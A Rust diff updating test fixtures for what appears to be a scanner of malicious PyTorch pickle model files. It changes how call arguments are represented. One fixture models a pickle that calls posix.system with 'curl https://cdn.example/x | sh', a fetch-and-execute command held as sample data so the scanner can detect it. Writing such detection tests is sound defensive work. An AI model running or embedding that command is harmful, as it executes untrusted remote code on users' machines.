@@ -3,20 +3,32 @@
 use weighbridge::policy::Refusal;
 use weighbridge::{
     fact::{
-        Anomaly, ContentFacts, Fact, Global, GlobalName, Hop, ListingLine, Malformed, Observation,
-        Op, PickleAnomaly, PickleFault, Place, SafetensorsAnomaly, SafetensorsFault, Short, Site,
-        TensorFault, Text, Unresolved, Usage, deceives,
+        Anomaly, CallArguments, ContainerKind, ContentFacts, Expression, Fact, Global, GlobalName,
+        Hop, ListingLine, Literal, Malformed, Observation, Op, PickleAnomaly, PickleFault, Place,
+        SafetensorsAnomaly, SafetensorsFault, Short, Site, TensorFault, Text, Unresolved, Usage,
+        deceives,
     },
     report::{self, Style},
     verdict::{GlobalRefusal, Inspection, JudgedGlobal, TorchVerdict},
 };
 
-use crate::support::report::{decided, hostile, torch_zip};
+use crate::support::report::{decided, hostile, hostile_text, torch_zip};
 
 fn hop(name: &str) -> Hop {
     Hop::Member {
         name: name.into(),
         copy: 0,
+    }
+}
+
+/// A text that tries to forge output, behind a name that does.
+fn hostile_value() -> Expression {
+    let text = Expression::Str(Literal::text(hostile_text().as_bytes(), 1000));
+    let name = GlobalName::new(hostile_text(), hostile_text());
+    Expression::Container {
+        kind: ContainerKind::Tuple,
+        items: Box::new([Expression::Global(Global::Named(name)), text]),
+        length: Some(2),
     }
 }
 
@@ -91,12 +103,25 @@ fn resnet() -> Inspection {
     };
     let system = Global::Named(GlobalName::new("posix", "system"));
     let rebuild = Global::Named(GlobalName::new("torch._utils", "_rebuild_tensor_v2"));
-    let call = |callee: &Global, preview: &str| Fact::Call {
+    let tuple = |items: Vec<Expression>| Expression::Container {
+        kind: ContainerKind::Tuple,
+        length: u64::try_from(items.len()).ok(),
+        items: items.into(),
+    };
+    let call = |callee: &Global, arguments: Vec<Expression>| Fact::Call {
         callee: callee.clone(),
         usage: Usage::Call,
-        preview: preview.into(),
+        given: Box::new(CallArguments {
+            positional: tuple(arguments),
+            keywords: None,
+        }),
         arguments: Vec::new(),
     };
+    let text = |text: &str| {
+        let length = u64::try_from(text.len()).unwrap();
+        Expression::Str(Literal::text(text.as_bytes(), length))
+    };
+    let sizes = [64, 3, 7, 7].map(Expression::Int).to_vec();
     let member = |name: &str, size| {
         let name = name.into();
         seen(Fact::Member { name, size }, &[], Place::Whole, 1)
@@ -119,21 +144,21 @@ fn resnet() -> Inspection {
                 seen(
                     call(
                         &rebuild,
-                        "torch._utils._rebuild_tensor_v2(<persistent id ('storage', torch.FloatStorage, '0', 'cpu', 9408)>, 0, (64, 3, 7, 7), …)",
+                        vec![Expression::Persistent, Expression::Int(0), tuple(sizes)],
                     ),
                     &pickle,
                     at(0x5a, "REDUCE"),
                     62,
                 ),
                 seen(
-                    call(&system, "posix.system('curl https://cdn.example/x | sh')"),
+                    call(&system, vec![text("curl https://cdn.example/x | sh")]),
                     &pickle,
                     at(0x1f, "REDUCE"),
                     1,
                 ),
                 seen(
                     Fact::PersistentId {
-                        preview: "('storage', …)".into(),
+                        id: tuple(vec![text("storage")]),
                         torch_storage: true,
                     },
                     &pickle,
@@ -142,7 +167,10 @@ fn resnet() -> Inspection {
                 ),
                 seen(
                     Fact::StateOnNonInstance {
-                        target: "torch.nn.functional".into(),
+                        target: Expression::Global(Global::Named(GlobalName::new(
+                            "torch.nn",
+                            "functional",
+                        ))),
                     },
                     &pickle,
                     at(0x90, "BUILD"),
@@ -386,12 +414,12 @@ fn forge(name: &str) {
         }];
         match &mut observation.fact {
             Fact::Member { name, .. } => *name = hostile_text(),
-            Fact::Call { preview, .. } => *preview = hostile(),
+            Fact::Call { given, .. } => given.positional = hostile_value(),
             Fact::Anomaly(anomaly) => {
                 let name = Short::from(hostile().as_str());
                 **anomaly = SafetensorsAnomaly::DuplicateTensor { name }.into();
             }
-            Fact::StateOnNonInstance { target } => *target = hostile(),
+            Fact::StateOnNonInstance { target } => *target = hostile_value(),
             Fact::Unread(unread) => {
                 let name = Short::from(hostile().as_str());
                 let fault = TensorFault::ShapeOverflow;
